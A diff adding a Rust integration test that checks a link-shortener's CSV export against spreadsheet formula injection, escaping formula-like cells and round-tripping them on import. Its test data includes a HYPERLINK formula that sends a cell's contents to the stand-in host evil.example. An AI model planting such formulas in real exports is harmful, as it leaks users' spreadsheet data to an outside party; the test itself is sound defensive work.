@@ -302,3 +302,61 @@ async fn an_import_of_more_links_than_the_ceiling_is_refused_whole() {
     }
     assert!(links_of(&app, user).await.is_empty());
 }
+
+/// A spreadsheet opening an export must not run what a user wrote: a title, code or tag that
+/// begins like a formula is written behind a `'` (text to a spreadsheet), and the file still
+/// imports back to exactly the values that were exported.
+#[tokio::test]
+async fn an_export_runs_no_formula_in_a_spreadsheet_and_imports_back_unchanged() {
+    let app = spawn_app().await;
+    let user = app.create_user("formulas").await;
+    let title = r#"=HYPERLINK("https://evil.example/?"&A2,"open")"#;
+    for (code, title, tags) in [
+        ("-1-1", title, json!(["-x", "y"])),
+        ("plain1", "'=quoted already", json!([])),
+        ("plain2", "'just a quote", json!(["-"])),
+    ] {
+        let res = app
+            .post_json(
+                "/urls",
+                &json!({"user_id": user, "original_url": "https://example.com/f", "short_code": code, "title": title, "tags": tags}),
+            )
+            .await;
+        assert_eq!(res.status(), 201, "{}", res.text().await.unwrap());
+    }
+    let csv = app
+        .get(&format!("/urls/export?user_id={user}"))
+        .await
+        .bytes()
+        .await
+        .unwrap();
+    let mut reader = csv::Reader::from_reader(&csv[..]);
+    let header = reader.headers().unwrap().clone();
+    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
+    let (code_at, title_at, tags_at) = (col("short_code"), col("title"), col("tags"));
+    for row in reader.records() {
+        let row = row.unwrap();
+        for at in [code_at, title_at, tags_at] {
+            let cell = &row[at];
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "a spreadsheet would run {cell:?}"
+            );
+        }
+    }
+    let text = String::from_utf8(csv.to_vec()).unwrap();
+    assert!(
+        text.contains(r#""'=HYPERLINK(""https://evil.example/?""&A2,""open"")""#),
+        "{text}"
+    );
+
+    let fresh = spawn_app().await;
+    let owner = fresh.create_user("importer").await;
+    assert_eq!(import(&fresh, "csv", owner, &csv).await.status(), 201);
+    let links = links_of(&fresh, owner).await;
+    assert_eq!(links["-1-1"]["title"], title);
+    assert_eq!(links["-1-1"]["tags"], json!(["-x", "y"]));
+    assert_eq!(links["plain1"]["title"], "'=quoted already");
+    assert_eq!(links["plain2"]["title"], "'just a quote");
+    assert_eq!(links["plain2"]["tags"], json!(["-"]));
+}
